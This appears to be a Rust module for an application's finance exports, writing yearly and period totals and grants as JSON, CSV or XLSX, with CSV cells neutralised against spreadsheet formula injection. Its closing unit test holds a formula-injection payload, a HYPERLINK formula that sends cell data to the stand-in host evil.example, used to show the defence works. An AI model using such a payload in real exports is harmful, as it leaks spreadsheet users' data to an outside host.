//! Finance exports: yearly totals, totals over a period, the grants of a year; JSON, CSV or
//! XLSX. A row of CSV and a row of XLSX are written from the same typed [`Cell`]s: in CSV, a
//! text cell goes through [`neutralise`] (no cell a spreadsheet runs as a formula), numbers and
//! dates are written as Essor formats them; in XLSX, a text cell is a string cell, which no
//! spreadsheet runs.

pub mod annual_totals;
pub mod dto;
pub mod grants;
pub mod period_totals;
pub mod scdl;

use std::borrow::Cow;

use actix_web::http::header;
use actix_web::{web, HttpRequest, HttpResponse};
use chrono::{Datelike, NaiveDate};
use rust_xlsxwriter::{ExcelDateTime, Format, FormatAlign, Workbook, XlsxError};
use serde::de::DeserializeOwned;

use self::dto::ExportFormat;
use crate::auth::Role;
use crate::domain::money::{FIRST_YEAR, LAST_YEAR};
use crate::domain::spreadsheet::neutralise;
use crate::domain::FieldError;
use crate::domain::{Lang, Text};
use crate::error::{ApiError, ApiResult};

/// Who reads exports: finance and admin, and instructors.
pub const READERS: [Role; 3] = [Role::Finance, Role::Admin, Role::Instructor];

pub const CSV_CONTENT_TYPE: &str = "text/csv; charset=utf-8";

pub const XLSX_CONTENT_TYPE: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/// The query string, read once the caller is authorised (a role that may not read gets 403
/// whatever it asked).
pub fn parse_query<T: DeserializeOwned>(req: &HttpRequest) -> ApiResult<T> {
    web::Query::<T>::from_query(req.query_string())
        .map(web::Query::into_inner)
        .map_err(|err| crate::api::extract::query_error(&err))
}

/// A required year parameter, within the years Essor handles.
pub fn check_year(errors: &mut Vec<FieldError>, field: &str, year: Option<i32>) -> i32 {
    match year {
        None => {
            errors.push(FieldError::bilingual(
                field,
                "required",
                "Ce paramètre est obligatoire.",
                format!("{field} is required"),
            ));
            FIRST_YEAR
        }
        Some(y) if !(FIRST_YEAR..=LAST_YEAR).contains(&y) => {
            errors.push(FieldError::bilingual(
                field,
                "out_of_range",
                format!("L'année doit être comprise entre {FIRST_YEAR} et {LAST_YEAR}."),
                format!("{field} must be between {FIRST_YEAR} and {LAST_YEAR}"),
            ));
            FIRST_YEAR
        }
        Some(y) => y,
    }
}

/// 400 naming each invalid query parameter, if any.
pub fn query_errors(errors: Vec<FieldError>) -> ApiResult<()> {
    if errors.is_empty() {
        return Ok(());
    }
    let detail = match errors.as_slice() {
        [one] => one.message.map(|message, lang| match lang {
            Lang::Fr => format!("{} : {message}", one.field),
            Lang::En => format!("{}: {message}.", one.field),
        }),
        many => Text::new(
            format!("{} paramètres de requête sont invalides.", many.len()),
            format!("{} query parameters are invalid.", many.len()),
        ),
    };
    Err(ApiError::BadRequest { detail, errors: Some(errors) })
}

/// The `format` parameter, if given (a value that names no format is an error naming it).
pub fn check_format(errors: &mut Vec<FieldError>, format: Option<&str>) -> Option<ExportFormat> {
    match format? {
        "json" => Some(ExportFormat::Json),
        "csv" => Some(ExportFormat::Csv),
        "xlsx" => Some(ExportFormat::Xlsx),
        _ => {
            errors.push(FieldError::bilingual(
                "format",
                "invalid",
                "Le format doit être json, csv ou xlsx.",
                "format must be json, csv or xlsx",
            ));
            None
        }
    }
}

/// The representation to answer: `format` if given, else the first media range of `Accept`
/// that names CSV or XLSX, else JSON.
pub fn negotiate(req: &HttpRequest, format: Option<ExportFormat>) -> ExportFormat {
    if let Some(f) = format {
        return f;
    }
    req.headers()
        .get_all(header::ACCEPT)
        .filter_map(|v| v.to_str().ok())
        .flat_map(|v| v.split(','))
        .filter_map(|range| range.split(';').next().map(str::trim))
        .find_map(|media| {
            if media.eq_ignore_ascii_case("text/csv") {
                Some(ExportFormat::Csv)
            } else if media.eq_ignore_ascii_case(XLSX_CONTENT_TYPE) {
                Some(ExportFormat::Xlsx)
            } else {
                None
            }
        })
        .unwrap_or(ExportFormat::Json)
}

/// RFC 4180 CSV (CRLF line ends), UTF-8: the header, then the rows (see [`write_csv_row`]).
pub fn csv_document(header: &[String], rows: &[Vec<Cell<'_>>]) -> ApiResult<Vec<u8>> {
    let mut writer = csv_writer(Vec::new());
    writer.write_record(header).map_err(|e| ApiError::internal_from("writing CSV", e))?;
    for row in rows {
        write_csv_row(&mut writer, row).map_err(|e| ApiError::internal_from("writing CSV", e))?;
    }
    writer.into_inner().map_err(|e| ApiError::internal("writing CSV", e))
}

/// A cell as a CSV field: text [`neutralise`]d, so that no spreadsheet runs it as a formula;
/// integers and cents as integers (`-5` is a number, not a formula), dates `YYYY-MM-DD`,
/// nothing as an empty field.
pub fn csv_field<'a>(cell: &Cell<'a>) -> Cow<'a, str> {
    match *cell {
        Cell::None | Cell::Date(None) => Cow::Borrowed(""),
        Cell::Text(text) => neutralise(text),
        Cell::Integer(n) | Cell::Cents(n) => Cow::Owned(n.to_string()),
        Cell::Date(Some(date)) => Cow::Owned(date.to_string()),
    }
}

/// One CSV record from typed cells: the only way the exports write a row of data.
pub fn write_csv_row<W: std::io::Write>(writer: &mut csv::Writer<W>, cells: &[Cell<'_>]) -> csv::Result<()> {
    let fields: Vec<Cow<'_, str>> = cells.iter().map(csv_field).collect();
    writer.write_record(fields.iter().map(|f| f.as_bytes()))
}

/// A CSV writer as RFC 4180 says: CRLF, quotes where needed.
pub fn csv_writer<W: std::io::Write>(out: W) -> csv::Writer<W> {
    csv::WriterBuilder::new().has_headers(false).terminator(csv::Terminator::CRLF).from_writer(out)
}

/// `Content-Disposition: attachment; filename="…"`.
pub fn attachment(filename: &str) -> (header::HeaderName, String) {
    (header::CONTENT_DISPOSITION, format!("attachment; filename=\"{filename}\""))
}

/// A whole CSV document as an attachment.
pub fn csv_response(filename: &str, body: Vec<u8>) -> HttpResponse {
    HttpResponse::Ok()
        .insert_header((header::CONTENT_TYPE, CSV_CONTENT_TYPE))
        .insert_header(attachment(filename))
        .body(body)
}

/// A whole XLSX workbook as an attachment.
pub fn xlsx_response(filename: &str, body: Vec<u8>) -> HttpResponse {
    HttpResponse::Ok()
        .insert_header((header::CONTENT_TYPE, XLSX_CONTENT_TYPE))
        .insert_header(attachment(filename))
        .insert_header((header::VARY, "Accept"))
        .body(body)
}

fn xlsx_error(e: XlsxError) -> ApiError {
    ApiError::internal_from("writing XLSX", e)
}

/// How a column of an XLSX export shows its values.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    Text,
    /// A count or a year: a whole number.
    Integer,
    /// Cents, shown as euros (`#,##0.00 "€"`).
    Euros,
    /// A date (`yyyy-mm-dd`).
    Date,
}

/// A column of an XLSX export: its header, its kind, its width (in characters).
pub struct Column {
    pub name: String,
    pub kind: Kind,
    pub width: f64,
}

impl Column {
    pub fn new(name: impl Into<String>, kind: Kind, width: f64) -> Self {
        Self { name: name.into(), kind, width }
    }
}

/// A cell of an XLSX export; `None` and `Date(None)` leave the cell empty.
#[derive(Debug, Clone, Copy)]
pub enum Cell<'a> {
    None,
    Text(&'a str),
    Integer(i64),
    Cents(i64),
    Date(Option<NaiveDate>),
}

/// An XLSX workbook of one worksheet, written row by row in constant memory: each finished
/// row goes to a temporary file, and only the row being written stays in memory. Typed
/// cells: numbers, euros as numbers (cents / 100) with a currency format, dates as dates; a
/// bold header row, frozen; set column widths.
pub struct Sheet {
    workbook: Workbook,
    formats: Vec<Format>,
    next_row: u32,
}

impl Sheet {
    pub fn new(name: &str, columns: &[Column]) -> ApiResult<Self> {
        let mut workbook = Workbook::new();
        let bold = Format::new().set_bold().set_align(FormatAlign::Center);
        let formats: Vec<Format> = columns
            .iter()
            .map(|c| match c.kind {
                Kind::Text => Format::new(),
                Kind::Integer => Format::new().set_num_format("0"),
                Kind::Euros => Format::new().set_num_format("#,##0.00 \"€\""),
                Kind::Date => Format::new().set_num_format("yyyy-mm-dd"),
            })
            .collect();
        let sheet = workbook.add_worksheet_with_constant_memory().map_err(xlsx_error)?;
        sheet.set_name(name).map_err(xlsx_error)?;
        for (col, column) in (0u16..).zip(columns) {
            sheet.set_column_width(col, column.width).map_err(xlsx_error)?;
            sheet.write_string_with_format(0, col, &column.name, &bold).map_err(xlsx_error)?;
        }
        sheet.set_freeze_panes(1, 0).map_err(xlsx_error)?;
        Ok(Self { workbook, formats, next_row: 1 })
    }

    /// The next row: one cell per column, in order.
    pub fn row(&mut self, cells: &[Cell<'_>]) -> ApiResult<()> {
        let row = self.next_row;
        self.next_row += 1;
        let sheet = self.workbook.worksheet_from_index(0).map_err(xlsx_error)?;
        for ((col, cell), format) in (0u16..).zip(cells).zip(&self.formats) {
            match *cell {
                Cell::None | Cell::Date(None) => {}
                Cell::Text(s) => {
                    sheet.write_string_with_format(row, col, s, format).map_err(xlsx_error)?;
                }
                Cell::Integer(n) => {
                    sheet.write_number_with_format(row, col, n as f64, format).map_err(xlsx_error)?;
                }
                Cell::Cents(cents) => {
                    sheet
                        .write_number_with_format(row, col, cents as f64 / 100.0, format)
                        .map_err(xlsx_error)?;
                }
                Cell::Date(Some(d)) => {
                    let date = u16::try_from(d.year())
                        .ok()
                        .and_then(|y| ExcelDateTime::from_ymd(y, d.month() as u8, d.day() as u8).ok())
                        .ok_or_else(|| {
                            ApiError::internal("writing XLSX", format!("date out of range: {d}"))
                        })?;
                    sheet.write_datetime_with_format(row, col, &date, format).map_err(xlsx_error)?;
                }
            }
        }
        Ok(())
    }

    /// The finished workbook (a zip), in memory.
    pub fn finish(mut self) -> ApiResult<Vec<u8>> {
        let mut out = Vec::new();
        self.workbook.save_to_writer(&mut out).map_err(xlsx_error)?;
        Ok(out)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_neutralises_text_cells_only() {
        let date = NaiveDate::from_ymd_opt(2026, 3, 12);
        let cells = [
            Cell::Text("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"clic\")"),
            Cell::Text("-X"),
            Cell::Text("Les Ateliers Solidaires"),
            Cell::Integer(-5),
            Cell::Cents(-1_234_56),
            Cell::Date(date),
            Cell::Date(None),
            Cell::None,
        ];
        let header: Vec<String> = "abcdefgh".chars().map(String::from).collect();
        let body = csv_document(&header, &[cells.to_vec()]).unwrap();
        assert_eq!(
            String::from_utf8(body).unwrap(),
            "a,b,c,d,e,f,g,h\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"clic\"\")\",'-X,Les Ateliers Solidaires,-5,-123456,2026-03-12,,\r\n"
        );
    }
}
